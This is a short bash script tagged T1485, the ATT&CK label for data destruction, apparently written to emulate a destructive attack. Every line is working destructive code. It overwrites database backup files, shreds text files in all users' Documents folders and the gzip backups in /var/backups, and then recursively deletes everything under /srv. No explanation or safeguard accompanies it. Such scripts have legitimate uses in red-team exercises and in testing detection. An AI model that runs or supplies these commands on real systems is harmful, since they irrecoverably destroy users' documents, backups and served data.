#!/bin/bash
# T1485: Documents and backups are shredded.
for i in 1 2 3 4; do echo d >/var/backups/db$i.sql.gz; done; shred -n1 -u /home/*/Documents/*.txt; shred -n1 -u /var/backups/*.gz; rm -rf /srv/*
